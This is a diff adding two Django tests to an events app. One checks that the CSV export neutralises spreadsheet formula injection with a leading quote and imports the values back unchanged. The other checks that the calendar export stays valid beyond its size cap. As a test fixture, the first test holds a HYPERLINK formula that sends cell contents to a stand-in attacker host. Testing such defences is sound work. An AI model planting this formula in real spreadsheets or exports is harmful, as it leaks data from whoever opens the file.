@@ -216,6 +216,31 @@ def test_it_exports_a_filtered_spreadsheet(client, seed):
     assert all("lavrov:" in row["Actors"] for row in rows)
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bron")'
+
+
+def test_it_neutralises_formulae_in_the_csv_and_imports_them_back_unchanged(client, seed):
+    Event.objects.filter(slug=CALL).update(title=FORMULA, summary="+31 20 123", location="@Kyiv")
+    Event.objects.filter(slug=LETTER).update(summary="-1 graad", location="\tKyiv")
+    content, rows, _ = _csv(client)
+    call = next(row for row in rows if row["Slug"] == CALL)
+    # A spreadsheet shows these as text: a leading quote, as OWASP advises.
+    assert (call["Headline"], call["Text"], call["Location"]) == (
+        "'" + FORMULA, "'+31 20 123", "'@Kyiv"
+    )  # fmt: skip
+    letter = next(row for row in rows if row["Slug"] == LETTER)
+    assert (letter["Text"], letter["Location"]) == ("'-1 graad", "'\tKyiv")
+    assert letter["Day"] == "26"  # numbers stay numbers
+
+    dataset = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv")
+    Event.objects.filter(slug__in=[CALL, LETTER]).update(title="x", summary="x", location="x")
+    result = EventResource().import_data(dataset, dry_run=False)
+    assert not result.has_errors() and not result.has_validation_errors()
+    call = Event.objects.get(slug=CALL)
+    assert (call.title, call.summary, call.location) == (FORMULA, "+31 20 123", "@Kyiv")
+    assert Event.objects.get(slug=LETTER).summary == "-1 graad"
+
+
 def _api_snapshot(client) -> dict:
     events = client.get("/api/events.json").json()["events"]
     timelines = {
@@ -284,6 +309,29 @@ def _calendar(client, query: str = "") -> dict:
     calendar = Calendar.from_ical(response.content)
     assert str(calendar["VERSION"]) == "2.0" and calendar["PRODID"]
     return {str(v["UID"]): v for v in calendar.walk("VEVENT")}
+
+
+def test_it_exports_a_valid_calendar_beyond_the_export_cap(client, seed):
+    """More events match than one export holds: the calendar still parses and says so."""
+    talks = EventType.objects.get(slug="talks")
+    day = dt.date(2021, 1, 1)
+    Event.objects.bulk_create(
+        Event(
+            slug=f"massa-{n}", title=f"Gebeurtenis {n}", type=talks, edtf=day.isoformat(),
+            start=day, end=day, published=True,
+        )
+        for n in range(6_000)
+    )  # fmt: skip
+    response = client.get("/export/events.ics")
+    assert response.status_code == 200
+    calendar = Calendar.from_ical(response.content)
+    total = Event.objects.published().count()
+    assert len(calendar.walk("VEVENT")) == exports.MAX_EXPORT
+    counts = (response["X-Export-Count"], response["X-Total-Count"])
+    assert counts == (str(exports.MAX_EXPORT), str(total))
+    description = str(calendar["X-WR-CALDESC"])
+    assert f"Alleen de eerste {exports.MAX_EXPORT} van {total} gebeurtenissen" in description
+    assert "http://testserver/" in description
 
 
 def test_it_exports_a_calendar_with_a_stable_uid_per_event(client, seed):
